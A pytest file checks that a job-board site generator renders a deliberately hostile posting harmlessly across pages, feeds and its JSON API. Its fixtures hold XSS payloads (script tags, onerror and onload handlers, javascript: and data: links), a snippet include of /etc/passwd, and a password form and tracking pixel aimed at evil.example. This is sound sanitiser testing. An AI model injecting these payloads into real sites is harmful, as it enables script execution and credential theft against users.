"""A posting written to attack the site builds into pages where none of the attack is live."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from generator.site.board_data import read_board
from site_fixtures import built, copy_board, job_postings, mkdocs_build, page_path, parse_html

PWN = "window.pwned=1;alert(1)"
HOSTILE_TITLE = "Fix </script><script>window.pwned=1</script> bugs & <b>more</b>"
HOSTILE_SKILL = '"><svg onload=alert(1)>'
HOSTILE_DESCRIPTION = f"""Intro <script>{PWN}</script> text.

<img src=x onerror="{PWN}">

[click me](javascript:{PWN}) and [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
and [ok link](https://example.org/ok).

A paragraph with an attribute list
{{: onclick="{PWN}" }}

<style>body {{ display: none }}</style>

<a href="javascript:{PWN}" onmouseover="{PWN}">raw link</a>

<div markdown="1" onclick="{PWN}">*markdown in html*</div>

<iframe src="https://evil.example/frame"></iframe>

<form action="https://evil.example/steal"><input name=password></form>

--8<-- "/etc/passwd"

{{{{ config.site_name }}}} and {{% raw %}}

![tracker](https://evil.example/pixel.png)
"""
KEY = "evil-brightloop/hostile-posting"
OUR_FORMS = {"mb-filters", "mb-post-form", "mb-top-search"}  # the last: the header search of postings and lists
MATERIAL_FORMS = {"md-search__form", "md-header__option"}  # search box, palette toggle


def hostile_organization() -> dict:
    return {"name": 'Brightloop "Evil" <script>alert(1)</script>',
            "url": "https://brightloop.example.com/'onmouseover='alert(1)",
            "about": f"<img src=x onerror=\"{PWN}\"> about us",
            "owners": ["mallory"]}


def hostile_posting() -> dict:
    return {
        "title": HOSTILE_TITLE,
        "summary": f"<img src=x onerror=\"{PWN}\"> summary with \"quotes\" & ampersands </script>",
        "description": HOSTILE_DESCRIPTION,
        "deliverables": [f"<svg onload=\"{PWN}\"> a deliverable", "</script><script>alert(1)</script>"],
        "field": "software",
        "skills": ["Python", HOSTILE_SKILL],
        "hours": 20,
        "timeline": {"apply_by": "2037-01-15", "duration_weeks": 3},
        "compensation": {"type": "fixed", "amount": 900, "currency": "USD"},
        "location": {"type": "remote"},
        "mentorship": {"mentor": f"<script>{PWN}</script> Mallory", "check_ins": "weekly",
                       "learning_outcomes": [f"<b onclick=\"{PWN}\">bold</b> learning"]},
        "apply": {"url": "https://brightloop.example.com/apply?a=1&b='onfocus='alert(1)'autofocus='",
                  "instructions": f"</script><script>{PWN}</script>"},
        "contact": {"name": "<script>alert(1)</script>"},
        "owners": ["mallory"],
        "status": "open",
        "posted": "2026-11-01",
    }


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    board = copy_board(tmp_path_factory.mktemp("hostile") / "board")
    target = board / "projects" / (KEY + ".yaml")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(yaml.safe_dump(hostile_posting(), allow_unicode=True, sort_keys=False), encoding="utf-8")
    (target.parent / "organization.yaml").write_text(
        yaml.safe_dump(hostile_organization(), allow_unicode=True, sort_keys=False), encoding="utf-8")
    site = board.parent / "site"
    # not --strict: the unknown skill is a warning (printed, not fatal), and part of the attack
    built(mkdocs_build(board, site, strict=False))
    return site


def inline_scripts(page) -> list[str]:
    return sorted(s.text for s in page.scripts if "src" not in s.attrs)


def assert_safe_fragment(fragment: str) -> None:
    """HTML handed to others (feeds, the API): only the sanitiser's tags, no handlers, safe links."""
    from generator.site.markdown import TAGS

    parser = _FragmentParser()
    parser.feed(fragment)
    for tag, attrs in parser.seen:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:")), value


class _FragmentParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, attrs))


def assert_inert(path: Path) -> None:
    page = parse_html(path)
    for element in page.elements:
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), (path, element)
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                assert not re.match(r"\s*(javascript|data|vbscript):", value, re.I), (path, element)
        assert element.tag not in ("iframe", "object", "embed", "style", "img"), (path, element)
        if element.tag == "form":  # ours (filters, post form) and Material's (search, palette toggle)
            assert element.attrs.get("id") in OUR_FORMS or element.attrs.get("class") in MATERIAL_FORMS, element
    for script in page.scripts:  # data blocks (the form's rules) hold stranger text, as parsed JSON only
        data_block = script.attrs.get("type") == "application/json"
        assert "pwned" not in script.text or data_block, path
        if data_block:
            json.loads(script.text)


def test_the_hostile_posting_page_has_nothing_live(hostile_site):
    path = page_path(hostile_site, f"projects/{KEY}")
    assert_inert(path)
    page = parse_html(path)
    benign = parse_html(page_path(hostile_site, "projects/brightloop/analyze-onboarding-drop-off"))
    assert inline_scripts(page) == inline_scripts(benign)
    assert sorted(s.attrs["src"] for s in page.scripts if "src" in s.attrs) == \
        sorted(s.attrs["src"] for s in benign.scripts if "src" in s.attrs)
    text = path.read_text(encoding="utf-8")
    assert "root:x:0:0" not in text  # no snippet inclusion
    assert "{{ config.site_name }}" in text  # shown as text, never evaluated
    assert "evil.example" not in text  # no iframe, form or image from another host survives
    assert '<a href="https://example.org/ok"' in text  # ordinary links still work
    assert re.search(r"<title>Fix &lt;/script&gt;&lt;script&gt;window\.pwned=1&lt;/script&gt; bugs &amp; "
                     r"&lt;b&gt;more&lt;/b&gt; - Microboard</title>", text)


def test_the_job_posting_of_the_hostile_posting_reads_its_text_as_text(hostile_site):
    """What a search engine reads in the Microdata is the stranger's text, escaped where it sits: no element,
    attribute or link it wrote comes alive."""
    path = page_path(hostile_site, f"projects/{KEY}")
    [data] = job_postings(path)
    assert data["title"] == HOSTILE_TITLE
    assert data["hiringOrganization"]["name"] == hostile_organization()["name"]
    assert data["identifier"]["name"] == hostile_organization()["name"]
    assert data["skills"] == f"Python, {HOSTILE_SKILL}"
    description = data["description"]
    assert "summary with \"quotes\" & ampersands </script>" in description  # the summary, as text
    assert "</script><script>alert(1)</script>" in description  # a deliverable, as text
    assert "application/ld+json" not in path.read_text(encoding="utf-8")
    assert_inert(path)


def test_every_page_and_feed_that_shows_the_hostile_posting_stays_inert(hostile_site):
    for path in hostile_site.rglob("*.html"):
        assert_inert(path)
    ET.parse(hostile_site / "feed.xml")
    ET.parse(hostile_site / "fields/software/feed.xml")
    feed = json.loads((hostile_site / "feed.json").read_text())
    item = next(i for i in feed["items"] if i["title"] == HOSTILE_TITLE)
    assert_safe_fragment(item["content_html"])
    board = json.loads((hostile_site / "board.json").read_text())
    assert HOSTILE_TITLE in [row["title"] for row in read_board(hostile_site)]  # its card file, read back
    api = json.loads((hostile_site / "projects.json").read_text())
    project = next(p for p in api["projects"] if p["id"] == KEY)
    assert_safe_fragment(project["description_html"])
    # the hostile skill got a page at a safe address
    slugs = [slug for name, slug in board["skills"] if name == HOSTILE_SKILL]
    assert slugs and re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", slugs[0])
    assert page_path(hostile_site, f"skills/{slugs[0]}").is_file()
